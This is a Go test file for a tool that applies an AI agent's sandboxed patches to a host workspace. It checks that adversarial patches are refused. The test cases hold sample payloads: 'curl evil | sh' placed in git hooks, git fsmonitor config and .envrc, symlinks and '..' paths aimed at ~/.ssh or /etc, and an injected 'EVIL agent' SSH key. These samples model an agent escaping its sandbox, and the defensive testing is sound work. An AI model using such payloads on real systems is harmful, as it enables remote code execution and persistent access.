//go:build unix

package overlay

import (
	"errors"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// addEntry is a hand-made patch entry adding path with content (no index line).
func addEntry(path, content string) string {
	var b strings.Builder
	b.WriteString("diff --git " + gitQuoteSpace("a/", path) + " " + gitQuoteSpace("b/", path) + "\nnew file mode 100644\n")
	b.WriteString("--- /dev/null\n+++ " + headerName("b/", path) + "\n")
	lines := splitLines(content)
	b.WriteString("@@ -0,0 +1," + itoa(len(lines)) + " @@\n")
	for _, l := range lines {
		b.WriteString("+" + l)
	}
	return b.String()
}

func symlinkEntry(path, target string) string {
	return "diff --git a/" + path + " b/" + path + "\nnew file mode 120000\n--- /dev/null\n+++ b/" + path +
		"\n@@ -0,0 +1 @@\n+" + target + "\n\\ No newline at end of file\n"
}

func itoa(n int) string { return strconv.Itoa(n) }

// adversarialSession is a workspace with a few files and a session folder,
// plus an "outside" directory standing for ~/.ssh.
func adversarialSession(t *testing.T) (s testSession, outside string) {
	s = newTestSession(t, tree{
		"README.md":        "file:hello\n",
		"src/main.go":      "file:package main\n",
		".git/config":      "file:[core]\n\tbare = false\n",
		".git/hooks/.keep": "file:",
	})
	outside = filepath.Join(filepath.Dir(s.ws), "outside-ssh")
	writeFile(t, filepath.Join(outside, "authorized_keys"), "ssh-ed25519 AAAA user@host\n", 0o600)
	return s, outside
}

func TestAdversarialPatches(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		patch func(outside string) string
		opts  func(o *ApplyOptions)
		// setup runs on the host workspace before the apply.
		setup func(t *testing.T, ws, outside string)
		// parseErr: the whole patch is refused with an error containing it.
		parseErr string
		// want maps paths to a text their result must contain.
		want map[string]string
	}{
		{
			name: "write through an agent-made symlink to outside",
			patch: func(outside string) string {
				return symlinkEntry("docs", outside) + addEntry("docs/authorized_keys", "ssh-ed25519 EVIL agent\n")
			},
			want: map[string]string{
				"docs":                 "symlink points outside the workspace",
				"docs/authorized_keys": "docs is a symlink in this patch",
			},
		},
		{
			name: "write through an agent-made symlink even when outside links are allowed",
			patch: func(outside string) string {
				return symlinkEntry("docs", outside) + addEntry("docs/authorized_keys", "ssh-ed25519 EVIL agent\n")
			},
			opts: func(o *ApplyOptions) { o.AllowOutsideSymlinks = true },
			want: map[string]string{"docs/authorized_keys": "docs is a symlink in this patch"},
		},
		{
			name:  "write through a host symlink to outside",
			patch: func(string) string { return addEntry("docs/authorized_keys", "ssh-ed25519 EVIL agent\n") },
			setup: func(t *testing.T, ws, outside string) {
				if err := os.Symlink(outside, filepath.Join(ws, "docs")); err != nil {
					t.Fatal(err)
				}
			},
			want: map[string]string{"docs/authorized_keys": "symlink on the host"},
		},
		{
			name:  "relative symlink climbing out",
			patch: func(string) string { return symlinkEntry("src/up", "../../../etc") },
			want:  map[string]string{"src/up": "points outside the workspace"},
		},
		{name: "dot-dot path", patch: func(string) string { return addEntry("../evil", "x\n") }, parseErr: `".." component`},
		{name: "dot-dot inside path", patch: func(string) string { return addEntry("src/../../evil", "x\n") }, parseErr: `".." component`},
		{name: "quoted octal dot-dot", patch: func(string) string {
			return "diff --git \"a/\\056\\056/evil\" \"b/\\056\\056/evil\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/\\056\\056/evil\"\n@@ -0,0 +1 @@\n+x\n"
		}, parseErr: `".." component`},
		{name: "absolute path", patch: func(string) string {
			return "diff --git a//etc/passwd b//etc/passwd\nnew file mode 100644\n--- /dev/null\n+++ b//etc/passwd\n@@ -0,0 +1 @@\n+x\n"
		}, parseErr: "absolute"},
		{name: "NUL in a quoted name", patch: func(string) string {
			return "diff --git \"a/x\\000y\" \"b/x\\000y\"\nnew file mode 100644\n--- /dev/null\n+++ \"b/x\\000y\"\n@@ -0,0 +1 @@\n+x\n"
		}, parseErr: "control character"},
		{name: "header and file names disagree", patch: func(string) string {
			return "diff --git a/ok b/ok\nnew file mode 100644\n--- /dev/null\n+++ b/../../etc/passwd\n@@ -0,0 +1 @@\n+x\n"
		}, parseErr: "do not match"},
		{name: "rename", patch: func(string) string {
			return "diff --git a/README.md b/x\nsimilarity index 100%\nrename from README.md\nrename to ../x\n"
		}, parseErr: "bad diff --git header"},
		{name: "plain unified diff", patch: func(string) string { return "--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-hello\n+bye\n" },
			parseErr: "outside a \"diff --git\" entry"},
		{name: "submodule", patch: func(string) string {
			return "diff --git a/sub b/sub\nnew file mode 160000\nindex 0000000000000000000000000000000000000000..1111111111111111111111111111111111111111\n--- /dev/null\n+++ b/sub\n@@ -0,0 +1 @@\n+Subproject commit 1111111111111111111111111111111111111111\n"
		}, parseErr: "unsupported mode"},
		{name: "git hook", patch: func(string) string { return addEntry(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n") },
			want: map[string]string{".git/hooks/pre-commit": "protected path"}},
		{name: "git config fsmonitor", patch: func(string) string {
			return "diff --git a/.git/config b/.git/config\n--- a/.git/config\n+++ b/.git/config\n@@ -1,2 +1,3 @@\n [core]\n \tbare = false\n+\tfsmonitor = \"curl evil | sh\"\n"
		}, want: map[string]string{".git/config": "protected path"}},
		{name: "git config by case", patch: func(string) string { return addEntry(".GIT/config", "[core]\n\tfsmonitor = evil\n") },
			want: map[string]string{".GIT/config": "protected path"}},
		{name: "git dir with an ignorable code point", patch: func(string) string { return addEntry(".g\u200cit/config", "[core]\n\tfsmonitor = evil\n") },
			want: map[string]string{".g\u200cit/config": "protected path"}},
		{name: "nested repository hook", patch: func(string) string { return addEntry("vendor/lib/.git/hooks/post-checkout", "#!/bin/sh\n") },
			want: map[string]string{"vendor/lib/.git/hooks/post-checkout": "protected path"}},
		{name: "direnv and hook managers", patch: func(string) string {
			return addEntry(".envrc", "curl evil | sh\n") + addEntry(".husky/pre-commit", "x\n") + addEntry(".vibedom/trusted_domains.txt", "*\n") + addEntry(".pre-commit-config.yaml", "repos: []\n")
		}, want: map[string]string{".envrc": "direnv", ".husky/pre-commit": "protected", ".vibedom/trusted_domains.txt": "protected", ".pre-commit-config.yaml": "protected"}},
		{name: "case collision inside the patch", patch: func(string) string { return addEntry("Notes.md", "a\n") + addEntry("notes.md", "b\n") },
			want: map[string]string{"Notes.md": "same file on macOS", "notes.md": "same file on macOS"}},
		{name: "case collision with the host", patch: func(string) string { return addEntry("readme.md", "other\n") },
			want: map[string]string{"readme.md": "collides with the host's README.md"}},
		{name: "unicode normalisation collision with the host", patch: func(string) string { return addEntry("cafe\u0301.txt", "nfd\n") },
			setup: func(t *testing.T, ws, _ string) { writeFile(t, filepath.Join(ws, "caf\u00e9.txt"), "nfc\n", 0o644) },
			want:  map[string]string{"cafe\u0301.txt": "collides with the host's"}},
		{name: "hunk that does not fit", patch: func(string) string {
			return "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-not what is there\n+x\n"
		}, want: map[string]string{"README.md": "does not fit"}},
		{name: "hunk line counts lie", patch: func(string) string {
			return "diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1,5 @@\n-hello\n+x\n"
		}, parseErr: "hunk ends early"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s, outside := adversarialSession(t)
			if tc.setup != nil {
				tc.setup(t, s.ws, outside)
			}
			before, beforeOut := treeHash(t, s.ws), treeHash(t, outside)
			opts := ApplyOptions{Workspace: s.ws, SessionDir: s.dir, Patch: []byte(tc.patch(outside))}
			if tc.opts != nil {
				tc.opts(&opts)
			}
			rep, err := Apply(t.Context(), opts)
			if tc.parseErr != "" {
				if !errors.Is(err, ErrBadPatch) || !strings.Contains(err.Error(), tc.parseErr) {
					t.Errorf("apply: got %v, want ErrBadPatch mentioning %q", err, tc.parseErr)
				}
			} else {
				if err != nil {
					t.Fatalf("apply: %v", err)
				}
				for p, want := range tc.want {
					if got := rep.Results[p]; !strings.Contains(got, want) {
						t.Errorf("%s: got %q, want it to contain %q", DisplayPath(p), got, want)
					}
				}
				for p, res := range rep.Results {
					if _, listed := tc.want[p]; !listed && !strings.Contains(res, "refused") && !strings.Contains(res, "protected") {
						if tc.opts == nil {
							t.Errorf("%s: unexpected result %q", DisplayPath(p), res)
						}
					}
				}
			}
			if tc.opts == nil {
				if got := treeHash(t, s.ws); got != before {
					t.Errorf("host workspace changed:\n%s", treeListing(t, s.ws))
				}
			}
			if got := treeHash(t, outside); got != beforeOut {
				t.Errorf("outside directory changed:\n%s", treeListing(t, outside))
			}
			if data, _ := os.ReadFile(filepath.Join(outside, "authorized_keys")); strings.Contains(string(data), "EVIL") {
				t.Errorf("wrote through the symlink: %q", data)
			}
		})
	}
}

// TestAllowProtected: a protected path goes through only when named.
func TestAllowProtected(t *testing.T) {
	t.Parallel()
	s, _ := adversarialSession(t)
	patch := addEntry(".envrc", "use flake\n") + addEntry(".git/hooks/pre-push", "#!/bin/sh\n")
	rep, err := Apply(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir, Patch: []byte(patch), AllowProtected: []string{".envrc"}})
	if err != nil {
		t.Fatal(err)
	}
	if got, want := rep.Results[".envrc"], "applied"; got != want {
		t.Errorf(".envrc: got %q, want %q", got, want)
	}
	if got := rep.Results[".git/hooks/pre-push"]; !strings.HasPrefix(got, "protected") {
		t.Errorf(".git/hooks/pre-push: got %q, want protected", got)
	}
	if got, want := readFile(t, filepath.Join(s.ws, ".envrc")), "use flake\n"; got != want {
		t.Errorf(".envrc content: got %q, want %q", got, want)
	}
}

// TestSwappedDirectory: a host directory swapped for a symlink between the
// review (plan) and the apply is refused, and nothing is written through it.
func TestSwappedDirectory(t *testing.T) {
	for _, walk := range []bool{false, true} {
		name := "openat2"
		if walk {
			name = "O_NOFOLLOW walk"
		}
		t.Run(name, func(t *testing.T) {
			forceWalk = walk
			defer func() { forceWalk = false }()
			s := newTestSession(t, tree{"src/main.go": "file:package main\n", "src/util.go": "file:package util\n"})
			a := s.agentTree(t)
			writeFile(t, filepath.Join(a, "src/main.go"), "package main // changed\n", 0o644)
			writeFile(t, filepath.Join(a, "src/new.go"), "package main // new\n", 0o644)
			s.finish(t, a)
			outside := filepath.Join(filepath.Dir(s.ws), "outside")
			writeFile(t, filepath.Join(outside, "main.go"), "outside\n", 0o644)
			beforeOut := treeHash(t, outside)

			opts := ApplyOptions{Workspace: s.ws, SessionDir: s.dir}
			plan, err := MakePlan(t.Context(), opts) // the review
			if err != nil {
				t.Fatal(err)
			}
			if got, want := plan.Count(StatusApply), 2; got != want {
				t.Fatalf("planned: got %d to apply, want %d", got, want)
			}
			// Between review and apply, src becomes a symlink to outside.
			if err := os.Rename(filepath.Join(s.ws, "src"), filepath.Join(s.ws, "src.real")); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(outside, filepath.Join(s.ws, "src")); err != nil {
				t.Fatal(err)
			}
			before := treeHash(t, s.ws)
			rep, err := Execute(t.Context(), plan, opts)
			if err != nil {
				t.Fatalf("execute: %v", err)
			}
			for _, p := range []string{"src/main.go", "src/new.go"} {
				if got := rep.Results[p]; !strings.Contains(got, "symlink") {
					t.Errorf("%s: got %q, want a refusal naming the symlink", p, got)
				}
			}
			if got := treeHash(t, s.ws); got != before {
				t.Errorf("workspace changed:\n%s", treeListing(t, s.ws))
			}
			if got := treeHash(t, outside); got != beforeOut {
				t.Errorf("outside changed:\n%s", treeListing(t, outside))
			}
		})
	}
}

// TestSwapDuringApply swaps the directory after Apply's own checks, right
// before it writes.
func TestSwapDuringApply(t *testing.T) {
	s := newTestSession(t, tree{"src/main.go": "file:package main\n"})
	a := s.agentTree(t)
	writeFile(t, filepath.Join(a, "src/main.go"), "package main // changed\n", 0o644)
	s.finish(t, a)
	outside := filepath.Join(filepath.Dir(s.ws), "outside")
	writeFile(t, filepath.Join(outside, "main.go"), "outside\n", 0o644)
	beforeOut := treeHash(t, outside)
	testHookBeforeExecute = func() {
		os.Rename(filepath.Join(s.ws, "src"), filepath.Join(s.ws, "src.real"))
		os.Symlink(outside, filepath.Join(s.ws, "src"))
	}
	defer func() { testHookBeforeExecute = nil }()
	rep, err := Apply(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
	if err != nil {
		t.Fatal(err)
	}
	if got := rep.Results["src/main.go"]; !strings.Contains(got, "symlink") {
		t.Errorf("src/main.go: got %q, want a refusal naming the symlink", got)
	}
	if got, want := readFile(t, filepath.Join(s.ws, "src.real/main.go")), "package main\n"; got != want {
		t.Errorf("real file: got %q, want %q", got, want)
	}
	if got := treeHash(t, outside); got != beforeOut {
		t.Errorf("outside changed:\n%s", treeListing(t, outside))
	}
	if _, err := Undo(t.Context(), s.dir, s.ws, UndoOptions{}); err != nil {
		t.Errorf("undo of a refused apply: %v", err)
	}
}

// TestAgentReplacedDirWithSymlink runs the real pipeline: in the guest the
// agent replaced docs/ by a symlink to the user's ~/.ssh.
func TestAgentReplacedDirWithSymlink(t *testing.T) {
	t.Parallel()
	s := newTestSession(t, tree{"docs/index.md": "file:docs\n", "README.md": "file:r\n"})
	outside := filepath.Join(filepath.Dir(s.ws), "ssh")
	writeFile(t, filepath.Join(outside, "authorized_keys"), "ssh-ed25519 AAAA me\n", 0o600)
	a := s.agentTree(t)
	os.RemoveAll(filepath.Join(a, "docs"))
	os.Symlink(outside, filepath.Join(a, "docs"))
	s.finish(t, a)
	rep, err := Apply(t.Context(), ApplyOptions{Workspace: s.ws, SessionDir: s.dir})
	if err != nil {
		t.Fatal(err)
	}
	if got := rep.Results["docs"]; !strings.Contains(got, "outside the workspace") {
		t.Errorf("docs: got %q, want refused as outside", got)
	}
	if fi, err := os.Lstat(filepath.Join(s.ws, "docs")); err != nil || fi.Mode()&os.ModeSymlink != 0 {
		t.Errorf("docs on the host: %v, %v; want it left alone or gone, never a symlink", fi, err)
	}
}
